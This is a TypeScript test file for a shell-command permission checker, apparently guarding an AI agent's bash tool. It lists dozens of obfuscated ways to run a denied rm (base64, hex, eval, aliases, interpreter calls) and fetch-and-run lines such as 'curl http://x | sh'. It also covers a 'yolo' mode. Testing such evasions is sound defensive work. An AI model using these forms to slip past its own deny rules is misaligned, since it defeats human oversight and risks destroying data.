import { beforeAll, describe, expect, it } from 'vitest';
import { verifies } from '../../../../tests/requirements.ts';
import { scratchFolder } from '../../../../tests/support/scratch.ts';
import { judgeCall, type SourcedRule } from '../../../core/policy.ts';
import { openShellRules, type ShellRules, surroundingsOf } from '../shell-rules.ts';

let rules: ShellRules;
beforeAll(async () => {
  rules = await openShellRules();
});
const decide = (line: string): string =>
  rules.decide({ allow: [{}], deny: [{ pattern: 'rm *' }] }, line, surroundingsOf(scratchFolder())).verdict;

const DENIED = String.raw`
$(printf rm) -rf x
$(echo rm) -rf x
$(echo r)m -rf x
r$(echo m) x
"$(printf %s%s r m)" x
$(printf '\162\155') x
$(printf rm) $(printf x)
command $(echo rm) x
sudo $(printf rm) x
env $(echo rm) x
timeout 5 $(printf rm) x
c=$(printf rm); sudo $c x
echo rm x | sh
printf 'r%s x' m | bash
printf '%b' 'rm\x20x' | sh
printf '\x72\x6d x' > s; sh s
echo cm0gLXJmIHg= | base64 -d | sh
base64 -d <<< cm0gLXJmIHg= | sh
bash -c "$(echo cm0gLXJmIHg= | base64 -d)"
bash <(echo cm0gLXJmIHg= | base64 --decode)
$(echo cm0gLXJmIHg= | base64 -d)
echo 726d2078 | xxd -r -p | sh
rev <<< 'x mr' | sh
$(rev <<< mr) x
cp /bin/rm q; ./q x
ln -s /bin/rm q && ./q x
alias q=rm; q x
alias q='rm -rf'; q x
hash -p /bin/rm q; q x
env -S 'rm -rf x'
env -S"rm x"
env --split-string='rm x'
eval "$(echo rm -rf x)"
eval $(printf 'rm -rf %s' x)
x=rm; eval $x y
perl -e 'system("rm x")'
python3 -c 'import os; os.system("rm x")'
python3 -c "import subprocess; subprocess.run(['rm', 'x'])"
node -e 'require("child_process").execSync("rm x")'
gdb -ex 'shell rm x'
`.trim();
const ASKED = String.raw`
$(<cmd) x
$(command -v q) x
$(tr a-z n-za-m <<< ez) x
$X y
\${X:-rm} x
sh -c "$X"
bash -c "$(cat s)"
eval "$X"
eval "$(cat s)"
. "$file"
source <(cat s)
cat s | sh
cat s | sudo bash -s
curl http://x | sh
curl http://x | python3
wget -qO- x | perl -
echo ez x | tr a-z n-za-m | sh
sh < s
python3 -c "$X"
find . -exec "$X" {} +
ls | xargs -I% % x
ls | xargs -I{} sh -c '{}'
ls | xargs sh -c
xargs -a list "$X"
sudo "$X" y
env "$X" y
env -S "$X"
PATH=/tmp:$PATH ls
export PATH=/tmp; ls
BASH_ENV=q bash -c :
IFS=,; c=ls,x; $c
printf -v c r%s m; $c x
read c <<< y; $c x
for c in a b; do $c x; done
set -- a b; "$@"
q() { "$@"; }; q a
fc -s x
enable -f ./x.so q
bind -x '"a": q'
complete -C 'q x' ls
mapfile -C 'q x' -c 1 l < f
$SHELL -c 'q'
$0 -c 'q'
`
  .trim()
  .replaceAll('\\$', '$');
const ALLOWED = `
ls -la
sudo -u bob ls -l
git commit -m "$(cat message)"
echo "$(date) $USER"
for f in *.txt; do wc -l "$f"; done
cat data.json | python3 -m json.tool
find . -name '*.js' | xargs grep -l foo
find . -type f -exec wc -l {} +
sudo apt-get install x
timeout 60 npm test 2>&1 | tail -n 20
bash scripts/build.sh "$TARGET"
node script.js "$X"
NODE_ENV=test npm test
env A=1 npm test
x=1; echo $x
make -j4 "$TARGET"
python3 --version
echo hello > a.txt && cat a.txt
`.trim();

describe('where rm is denied and all else allowed', () => {
  it.each(DENIED.split('\n'))('%s is denied', (line) => {
    verifies('Z10');
    expect(decide(line)).toBe('deny');
  });
  it.each(ASKED.split('\n'))('%s is asked about', (line) => {
    verifies('Z10');
    expect(decide(line)).toBe('ask');
  });
  it.each(ALLOWED.split('\n'))('%s is allowed', (line) => {
    expect(decide(line)).toBe('allow');
  });

  it('holds in yolo too, which lets pass what nothing denies', () => {
    verifies('Z10');
    const tool = { name: 'bash', risk: 'high', effects: 'process', main_argument: 'command' } as const;
    const deny: SourcedRule[] = [{ tool: 'bash', pattern: 'rm *', source: 'command line' }];
    const decideCommand = (own: { allow: readonly SourcedRule[]; deny: readonly SourcedRule[] }, line: string) =>
      rules.decide(own, line, surroundingsOf(scratchFolder()));
    const inYolo = (line: string, denied: SourcedRule[]): string =>
      judgeCall({ allow: [], deny: denied, mode: 'yolo' }, tool, { command: line }, { decideCommand }).verdict;
    expect(inYolo('curl x | sh', deny)).toBe('ask');
    expect(inYolo('$(printf rm) x', deny)).toBe('deny');
    expect(inYolo('cat .env; ls', deny)).toBe('allow');
    expect(inYolo('curl x | sh', [])).toBe('allow');
  });
});
